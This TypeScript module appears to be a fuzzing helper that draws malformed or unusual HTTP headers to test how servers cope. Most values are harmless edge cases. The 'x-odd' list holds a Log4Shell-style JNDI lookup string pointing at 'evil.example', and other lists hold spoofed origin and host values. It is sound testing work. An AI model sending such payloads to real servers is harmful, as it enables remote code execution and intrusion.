import type { Draws } from '../draws.js';

const ODD: readonly (readonly [string, readonly string[]])[] = [
  [
    'accept',
    [
      '',
      '*/*',
      'text/html',
      'text/event-stream',
      'multipart/mixed',
      'image/png;q=NaN',
      'a/b;'.repeat(200),
      ',,,',
    ],
  ],
  ['accept-language', ['da', '*;q=9', 'x'.repeat(2000)]],
  ['content-encoding', ['gzip', 'br', 'deflate', 'zstd', 'identity', 'x', 'gzip, gzip']],
  [
    'content-type',
    ['', 'application/json;', 'application/json; charset=', '/', 'a/b/c', 'application/json, text/plain'],
  ],
  ['origin', ['null', 'https://evil.example', 'x', 'http://', 'http://127.0.0.1']],
  ['sec-fetch-site', ['cross-site', 'same-site', 'none', 'x']],
  ['x-forwarded-for', ['1.2.3.4', 'x', '::', ','.repeat(500)]],
  ['x-forwarded-proto', ['https', 'javascript']],
  ['x-http-method-override', ['DELETE', 'x']],
  ['host', ['evil.example', '', '[::1', 'a:b:c', '127.0.0.1:99999']],
  ['range', ['bytes=0-', 'bytes=-1', 'bytes=9-1', 'bytes=0-0,1-1,2-2', 'x']],
  ['if-none-match', ['*', 'W/"', 'x']],
  ['if-modified-since', ['yesterday', 'Thu, 99 Foo 0000 99:99:99 GMT']],
  ['upgrade', ['websocket', 'h2c']],
  ['x-odd', ['x'.repeat(8000), 'æøå', '%00', '${jndi:ldap://evil.example}']],
];

/** One or two headers that programs handle badly. */
export function drawOddHeaders(draws: Draws): Record<string, string> {
  return Object.fromEntries(draws.some(ODD, 2).map(([name, values]) => [name, draws.pick(values)]));
}
